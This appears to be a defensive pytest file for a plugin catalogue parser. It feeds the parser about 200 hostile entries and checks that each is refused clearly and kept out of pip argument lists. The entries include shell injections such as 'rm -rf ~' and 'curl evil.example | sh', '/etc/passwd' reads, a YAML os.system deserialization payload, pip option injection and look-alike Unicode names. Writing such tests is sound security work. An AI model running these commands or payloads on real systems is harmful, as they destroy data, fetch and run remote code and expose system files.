"""200 hostile entries: each is refused in one clear sentence, and nothing of any of them reaches an argument list."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jepakit.errors import ConfigError, UsageError
from jepakit.plugin_host.catalogue import parse_catalogue
from jepakit.plugin_host.install import wanted_names
from jepakit.plugin_host.names import Pinned
from jepakit.plugin_host.pip import Source, download_command, resolve_command

GOOD: dict[str, Any] = {
    "name": "zoo",
    "distribution": "jepakit-zoo",
    "summary": "calls of animals",
    "modality": "zoo",
    "components": {"modality": ["zoo"], "tokenizer": ["zoo-patch"]},
    "recipes": ["zoo"],
    "paper": ["arXiv 2301.08243"],
    "licence": "Apache-2.0",
    "api": 1,
    "status": "stable",
    "hashes": {"1.0": ["sha256:" + "0" * 64]},
}
TEXTS = (
    "zoo; rm -rf ~", "zoo && curl evil.example | sh", "$(id)", "`id`", "zoo | tee x", "zoo > /etc/passwd", "zoo\n--index-url=x", "zoo\r\nx",
    "--index-url=http://evil.example", "--extra-index-url", "-r requirements.txt", "-e .", "--pre", "-", "http://evil.example/x.whl",
    "zoo @ https://evil.example/x.whl", "git+ssh://evil.example/x", "file:///etc/passwd", "../../etc/passwd", "/etc/passwd", "C:\\x",
    "zo\u043e", "\u0458epakit-zoo", "ｊepakit-zoo", "jepakit\u2010zoo", "zoo\u202egnp", "\u2066zoo\u2069", "zoo\u200b", "\ufeffzoo",
    "zoo\x00",
    "\x1b[31mzoo", "zoo\u2028x", "zo\u0301o", "a" * 65, "a" * 100_000, "", " ", "zoo ", " zoo", "{{ zoo }}", "%(zoo)s", "zoo[all]",
    "zoo; python_version>'3'", "[bold]zoo[/bold]", "<script>", "\U0001f600",
)  # fmt: skip
"""Shell, pip options, addresses, paths, look-alike letters, invisible and direction controls, sizes, templates, markup."""
FIELDS = ("distribution", "name", "recipes", "components")
YAML = (
    "version: 1\nplugins: [!!python/object/apply:os.system [id]]",
    "version: 1\nplugins: !!python/tuple []",
    "version: 1\nplugins: [!!str zoo]",
    "version: 1\nplugins: [!evil {name: zoo}]",
    "!!map {version: 1, plugins: []}",
    "version: 1\nplugins: &a []",
    "version: 1\nplugins: [&a {name: zoo}, *a]",
    "version: &v 1\nplugins: []\nmore: *v",
    "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nplugins: *c",
    "version: 1\nplugins: [{<<: {name: zoo}}]",
    "version: 1\nversion: 1\nplugins: []",
    "version: 1\nplugins: []\n---\nversion: 1\nplugins: []",
    "version: 2\nplugins: []",
    "version: '1'\nplugins: []",
    "version: true\nplugins: []",
    "plugins: []",
    "version: 1",
    "version: 1\nplugins: {}",
    "version: 1\nplugins: [zoo]",
    "version: 1\nplugins: [[]]",
    "version: 1\nplugins: [null]",
    "version: 1\nplugins: []\nindex: x",
    "version: 1\nplugins: " + "[" * 1_000 + "]" * 1_000,
    "version: 1\nplugins: " + "{a: " * 40 + "1" + "}" * 40,
    "version: 1\nplugins: [" + "a, " * 60_000 + "]",
    "version: 1\nplugins: []\n#" + "x" * (1 << 20),
    "version: 1\nplugins: [}",
    "version: 1\nplugins: []\n\x00",
    "- version: 1",
    "zoo",
    "",
)
OTHERS: tuple[dict[str, Any], ...] = (
    {"command": "pip install x"}, {"url": "x"}, {"index-url": "x"}, {"install": ["x"]}, {"entry_points": {}}, {"__class__": "x"},
    {"api": 0}, {"api": "1"}, {"api": 1.5}, {"api": True}, {"api": 10**30}, {"status": "trusted"}, {"status": ["stable"]},
    {"licence": "MIT; id"}, {"licence": "http://x"}, {"paper": ["http://arxiv.org/abs/2301.08243"]}, {"paper": "arXiv 2301.08243"},
    {"paper": ["doi 10.1/x;id"]}, {"hashes": {"1.0": ["md5:0"]}}, {"hashes": {"1.0 --pre": ["sha256:" + "0" * 64]}},
    {"hashes": {"1.0": "sha256:" + "0" * 64}}, {"hashes": {"1.0": []}}, {"hashes": {"1.0": ["sha256:" + "0" * 63 + "\n"]}}, {"hashes": []},
    {"components": {"maskr": ["x"]}}, {"components": {"tokenizer": "zoo"}}, {"components": {"tokenizer": []}}, {"components": []},
    {"components": {"tokenizer": [{"a": 1}]}}, {"components": {"tokenizer": ["a"] * 65}}, {"recipes": {"a": 1}}, {"recipes": [1]},
    {"distribution": 1}, {"distribution": None}, {"distribution": ["a"]}, {"distribution": {"name": "a"}}, {"name": 1.5},
    {"modality": None},
    {"summary": "see https://evil.example"}, {"summary": "see www.evil.example"}, {"summary": "two\nlines"}, {"summary": "a" * 161},
    {"summary": "`id`"}, {"summary": "$(id)"}, {"summary": "evil \u202e txt"}, {"summary": "[link=x]"}, {"summary": 5}, {"summary": ""},
)  # fmt: skip


def put(field: str, text: str) -> dict[str, Any]:
    """The good entry with `text` where a name stands in `field`."""
    value: Any = {"distribution": text, "name": text, "recipes": [text], "components": {"tokenizer": [text]}}[field]
    return GOOD | {field: value}


def documents() -> Iterator[str]:
    """All hostile catalogues, as text."""
    entries = itertools.chain((put(field, text) for text in TEXTS for field in FIELDS), (GOOD | other for other in OTHERS))
    yield from (json.dumps({"version": 1, "plugins": [entry]}) for entry in entries)
    yield from YAML


HOSTILE = tuple(documents())


def test_entry_that_they_are_made_from_is_good() -> None:
    (entry,) = parse_catalogue(json.dumps({"version": 1, "plugins": [GOOD]}), "registry.yaml")
    assert entry.distribution == "jepakit-zoo"


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 200


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_catalogue_is_refused_in_one_sentence(text: str) -> None:
    with pytest.raises(ConfigError) as refused:
        parse_catalogue(text, "registry.yaml")
    said = str(refused.value)
    assert said.startswith("registry.yaml")
    assert said.isascii()
    assert said.isprintable()
    assert len(said) < 400


@pytest.mark.parametrize("text", [text for text in TEXTS if not text.startswith("a" * 65)], ids=ascii)
def test_hostile_name_on_the_command_line_reaches_no_argument_list(text: str) -> None:
    with pytest.raises(UsageError) as refused:
        wanted_names([text], ())
    said = str(refused.value)
    assert said.isascii()
    assert said.isprintable()
    with pytest.raises(UsageError):
        Pinned(text)
    if text:
        with pytest.raises(UsageError):
            Pinned("zoo", text)


def test_argument_lists_are_the_template_and_nothing_else(tmp_path: Path) -> None:
    """What a catalogue can name at all goes into the list as one element, after `--`."""
    for name in ("jepakit-zoo", "Jepakit.Zoo_2", "a"):
        (item,) = wanted_names([name], ())
        assert isinstance(item, Pinned)
        for command, empty in (
            (resolve_command([item], Source(), tmp_path), resolve_command([], Source(), tmp_path)),
            (download_command([item], Source(), tmp_path), download_command([], Source(), tmp_path)),
        ):
            assert command == [*empty, item.distribution]
            assert empty[-1] == "--"
